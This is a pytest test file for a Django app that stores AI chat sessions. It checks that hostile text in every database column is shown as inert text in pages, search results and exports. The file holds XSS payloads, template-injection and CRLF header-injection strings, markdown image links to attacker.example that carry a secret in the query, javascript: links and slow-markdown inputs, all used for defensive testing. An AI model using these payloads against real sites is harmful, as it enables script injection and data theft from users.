"""Hostile text in every column: drawn as text on every page, in exports and in names, and able to load nothing."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Callable
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from memoryhub.demo import tables
from memoryhub.hermes.home import Home
from tests.builders import START, message, session, tool_call

Stored = Callable[..., Path]
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    'user" onmouseover="alert(3)',
    "</script><script>alert(4)</script><!--",
    "</title><script>alert(5)</script>",
    "' onfocus='alert(6)' autofocus='",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "![a](https://attacker.example/p.png) <link rel=prefetch href=https://attacker.example/f> [x](javascript:alert(7))",
    "\u202egnp.exe \u200b\x00\x1b[31m \ud7ff\ue000x\ue001",
    'a"; filename=x.html\r\nSet-Cookie: y=1',
)
TEXT_COLUMNS = {
    table: [one.split()[0] for one in definition.replace("\n", " ").split(",") if " TEXT" in f" {one.strip()} "]
    for table, definition in tables.COLUMNS.items()
}
ALLOWED = {
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "body",
    "header",
    "main",
    "footer",
    "nav",
    "section",
    "article",
    "details",
    "summary",
    "form",
    "input",
    "button",
    "label",
    "fieldset",
    "legend",
    "dialog",
    "select",
    "h1",
    "h2",
    "h3",
    "h4",
    "p",
    "a",
    "div",
    "span",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "strong",
    "code",
    "kbd",
    "pre",
    "bdi",
    "time",
    "mark",
    "br",
    "svg",
    "rect",
    "del",
    "ins",
    "em",
    "hr",
    "blockquote",
    "style",
    "s",
}


class Look(HTMLParser):
    """Every element and attribute of a page, as a browser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def body(answer: Any) -> str:
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return content.decode()


def check(html: str, address: str) -> None:
    look = Look(html)
    assert look.tags <= ALLOWED, (address, look.tags - ALLOWED)
    for tag, name, value in look.attributes:
        assert not name.startswith("on"), (address, tag, name)
        assert name != "style", (address, tag)
        if name in ("href", "src", "action", "formaction", "hx-get"):
            assert re.match(r"(/(?!/)|#|\?|https?://attacker\.example/|$)", value), (address, tag, value)
        if name in ("src", "hx-get", "action") or (tag == "link" and name == "href"):
            assert "//attacker" not in value, (address, value)
    assert "alert(" not in "".join(re.findall(r"<script[^>]*>(.*?)</script>", html, re.DOTALL))


def fill(path: Path, value: str) -> None:
    """Put a text into every text column of both tables but the keys."""
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("PRAGMA foreign_keys = OFF")
        for table in ("sessions", "messages"):
            for column in TEXT_COLUMNS[table]:
                if column not in ("id", "session_id", "parent_session_id", "role", "tool_call_id"):
                    where = "" if column != "title" else " WHERE id = 's'"
                    conn.execute(f"UPDATE {table} SET {column} = ?{where}", (value,))
        conn.execute("UPDATE messages SET role = ? WHERE id = 2", (value,))
        conn.execute("UPDATE sessions SET parent_session_id = ? WHERE id = 's'", (value,))
        conn.execute("INSERT OR REPLACE INTO session_model_usage (session_id, model) VALUES ('s', ?)", (value,))
        conn.commit()


@pytest.mark.parametrize("value", HOSTILE)
def test_every_column_is_drawn_as_text_everywhere(client: Client, home: Home, stored: Stored, value: str) -> None:
    stored(
        [session("s"), session("t", parent_session_id="s", started_at=START + 5)],
        [message("s"), message("s"), message("s", "assistant"), message("s", "tool"), message("t")],
    )
    fill(home.state_db, value)
    pages = [
        "/sessions/",
        "/sessions/?all=1",
        "/sessions/s/",
        "/sessions/s/?undone=1&at=3",
        "/sessions/s/message/3/",
        "/sessions/s/prompt/",
        "/sessions/s/export/",
        "/settings/store/",
        "/sessions/t/",
    ]
    for address in pages:
        answer = client.get(address)
        assert answer.status_code == 200, address
        check(body(answer), address)
    for query in (value, "alert", "x", "attacker"):
        answer = client.get("/sessions/", {"q": query})
        assert answer.status_code == 200
        check(body(answer), query)
        check(body(client.get("/sessions/s/", {"q": query})), query)
        check(body(client.get("/sessions/", {"source": query, "model": query, "folder": query})), query)


@pytest.mark.parametrize("value", HOSTILE)
def test_tool_names_and_arguments_are_text(client: Client, stored: Stored, value: str) -> None:
    calls = json.dumps([tool_call(value, {value: value}, "1"), {"function": value}])
    stored(
        [session("s")],
        [
            message("s", "assistant", value, tool_calls=calls, reasoning=value),
            message("s", "tool", value, tool_name=value, tool_call_id="1"),
        ],
    )
    check(body(client.get("/sessions/s/")), "conversation")
    for form in ("html", "md", "json"):
        answer = client.get("/sessions/s/export/", {"format": form})
        assert "\n" not in answer["Content-Disposition"]
        if form == "html":
            check(body(answer).replace(_style(body(answer)), ""), "export")


def _style(html: str) -> str:
    found = re.search(r"<style>.*?</style>", html, re.DOTALL)
    return found[0] if found else ""


@pytest.mark.parametrize("name", [value.replace("\0", "") for value in HOSTILE])
def test_a_hostile_session_id_is_listed_opened_and_exported(client: Client, stored: Stored, name: str) -> None:
    stored([session(name)], [message(name, content="walrus")])
    page = body(client.get("/sessions/"))
    check(page, "list")
    assert "/sessions/row:1/" in page
    for address in ("/sessions/row:1/", "/sessions/row:1/message/1/", "/sessions/?q=walrus", "/sessions/row:1/export/"):
        answer = client.get(address)
        assert answer.status_code == 200, address
        check(body(answer), address)
    answer = client.get("/sessions/row:1/export/", {"format": "json"})
    assert re.fullmatch(r'attachment; filename="conversation-[A-Za-z0-9-]+\.json"', answer["Content-Disposition"])


def test_markdown_of_a_message_loads_and_links_nothing_it_should_not(client: Client, stored: Stored) -> None:
    content = (
        "![a](https://attacker.example/p.png?q=secret) ![b](//attacker.example/p.png) <img src=https://attacker.example/c>"
        ' [x](javascript:alert(1)) [y](data:text/html,x) [z](https://fine.example/ "t") <video poster=x>'
    )
    stored([session("s")], [message("s", "assistant", content)])
    page = body(client.get("/sessions/s/"))
    assert "<img" not in page
    assert "<video" not in page
    assert "external image not loaded: attacker.example" in page
    assert 'href="javascript' not in page
    assert 'href="https://fine.example/" rel="noopener noreferrer nofollow" target="_blank"' in page


def test_marks_in_formatted_text_never_cross_an_element(client: Client, stored: Stored) -> None:
    stored(
        [session("s")],
        [message("s", "assistant", "a **bold walrus** and [walrus](https://walrus.example/walrus) `walrus`")],
    )
    page = body(client.get("/sessions/s/", {"q": "walrus"}))
    assert "<strong>bold <mark>walrus</mark></strong>" in page
    assert 'href="https://walrus.example/walrus"' in page
    assert "<code><mark>walrus</mark></code>" in page
    assert "\ue000" not in page
    assert "%EE%80" not in page


@pytest.mark.parametrize(
    "text", ["![" * 20_000, ">" * 5_000 + "x", "`" * 5_000, "[" * 5_000, "*a " * 2_600, "- " * 3_900]
)
def test_markdown_made_to_be_slow_is_shown_all_the_same(client: Client, stored: Stored, text: str) -> None:
    stored([session("s")], [message("s", "assistant", text)])
    assert client.get("/sessions/s/").status_code == 200
    assert client.get("/sessions/s/message/1/", {"render": "1"}).status_code == 200
